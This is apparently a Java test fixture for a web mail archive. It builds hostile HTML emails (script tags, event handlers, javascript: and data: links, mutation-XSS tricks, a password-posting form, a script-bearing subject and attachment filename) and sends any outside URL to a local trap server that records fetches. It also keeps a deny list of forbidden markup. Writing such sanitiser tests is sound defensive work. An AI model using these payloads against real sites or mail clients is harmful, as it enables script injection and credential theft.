package org.parley.web;

import java.io.IOException;
import java.io.InputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * Hostile HTML mail: every way we know to run script, load something from outside or take over the
 * page — script, SVG, event handlers, CSS url(), data: and javascript: links, forms, meta refresh,
 * iframes, objects, base, mutation-XSS tricks. Every outside URL points at {@link Trap}, a local
 * port that records any connection, so a test can prove nothing was fetched.
 */
final class HostileCorpus {
  private HostileCorpus() {}

  static List<String> html(String trap) {
    return List.of(
        "<p>script</p><script>window.pwned=1;alert('script')</script><SCRIPT SRC="
            + trap
            + "/x.js></SCRIPT>",
        "<img src=x onerror=\"window.pwned=2;alert('onerror')\"><body onload=\"alert('onload')\">"
            + "<p onmouseover=\"alert(1)\" onclick=\"alert(1)\">hover</p>",
        "<svg onload=\"alert('svg')\"><script>alert('svg-script')</script></svg>"
            + "<svg><a xlink:href=\"javascript:alert('svg-link')\"><text x=\"0\" y=\"10\">svg link</text></a></svg>",
        "<div style=\"background:url("
            + trap
            + "/css.png)\">css url</div>"
            + "<style>body{background:url("
            + trap
            + "/style.png)} @import url("
            + trap
            + "/import.css);</style>"
            + "<link rel=\"stylesheet\" href=\""
            + trap
            + "/link.css\">",
        "<a href=\"javascript:alert('js-link')\">js link</a>"
            + "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>"
            + "<a href=\" jav&#x09;ascript:alert('tab')\">tab link</a>"
            + "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+\">",
        "<form action=\""
            + trap
            + "/steal\" method=\"post\"><input name=\"password\" value=\"x\">"
            + "<button formaction=\""
            + trap
            + "/steal2\">Go</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=" + trap + "/refresh\"><p>refresh</p>",
        "<iframe src=\""
            + trap
            + "/frame\"></iframe><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"
            + "<object data=\""
            + trap
            + "/obj\"></object><embed src=\""
            + trap
            + "/embed\">",
        "<p>pixel</p><img src=\""
            + trap
            + "/pixel.gif\" width=\"1\" height=\"1\">"
            + "<video poster=\""
            + trap
            + "/poster.png\"></video><audio src=\""
            + trap
            + "/a.mp3\" autoplay></audio>",
        "<base href=\"" + trap + "/\"><img src=\"relative.png\"><a href=\"relative\">relative</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('mxss')>\"></noscript>"
            + "<template><script>alert('template')</script></template>"
            + "<math><mi xlink:href=\"javascript:alert('math')\">m</mi></math>",
        "<table background=\""
            + trap
            + "/table.png\"><tr><td background=\""
            + trap
            + "/td.png\">cell</td></tr></table>"
            + "<input type=\"image\" src=\""
            + trap
            + "/input.png\"><img srcset=\""
            + trap
            + "/srcset.png 2x\">");
  }

  /** The markup that must never reach the page from a message. */
  static final List<String> FORBIDDEN =
      List.of(
          "<script>alert",
          "<script>window",
          "<svg",
          "<iframe",
          "<object",
          "<embed",
          "<form",
          "<meta http-equiv",
          "<base",
          "<style>",
          "<link rel=\"stylesheet\" href=\"http",
          "javascript:",
          "data:text/html",
          "data:image/svg",
          "onerror=",
          "onload=",
          "onclick=",
          "onmouseover=",
          "srcdoc",
          "style=\"background",
          "background=\"",
          "formaction",
          "srcset",
          "<math",
          "<video",
          "<audio");

  /** A local port that records every connection made to it. */
  static final class Trap implements AutoCloseable {
    final List<String> hits = new CopyOnWriteArrayList<>();
    private final ServerSocket server;
    private final Thread thread;

    Trap() throws IOException {
      server = new ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress());
      thread =
          Thread.ofVirtual()
              .start(
                  () -> {
                    while (!server.isClosed()) {
                      try (Socket s = server.accept()) {
                        s.setSoTimeout(2000);
                        InputStream in = s.getInputStream();
                        byte[] buf = new byte[512];
                        int n = in.read(buf);
                        hits.add(
                            n > 0
                                ? new String(buf, 0, n, StandardCharsets.ISO_8859_1)
                                    .lines()
                                    .findFirst()
                                    .orElse("")
                                : "?");
                        s.getOutputStream()
                            .write(
                                "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"
                                    .getBytes(StandardCharsets.US_ASCII));
                      } catch (IOException e) {
                        // closed, or a client that said nothing
                      }
                    }
                  });
    }

    String url() {
      return "http://127.0.0.1:" + server.getLocalPort();
    }

    @Override
    public void close() throws IOException {
      server.close();
      thread.interrupt();
    }
  }

  /** One hostile message, HTML only, with a hostile subject and an HTML attachment. */
  static String message(int i, String html) {
    return "From: Mallory <mallory@example.com>\n"
        + "To: news@lists.test\n"
        + "Subject: <script>alert('subject')</script> hostile "
        + i
        + "\n"
        + "Message-ID: <hostile-"
        + i
        + "@example.com>\n"
        + "Date: Sun, 30 Nov 2025 10:00:00 +0000\n"
        + "MIME-Version: 1.0\n"
        + "Content-Type: multipart/mixed; boundary=\"h\"\n\n"
        + "--h\nContent-Type: text/html; charset=utf-8\n\n"
        + html
        + "\n"
        + "--h\nContent-Type: text/html; name=\"evil.html\"\n"
        + "Content-Disposition: attachment; filename=\"\\\"><script>alert(1)</script>.html\"\n\n"
        + "<script>alert('attachment')</script>\n--h--\n";
  }
}
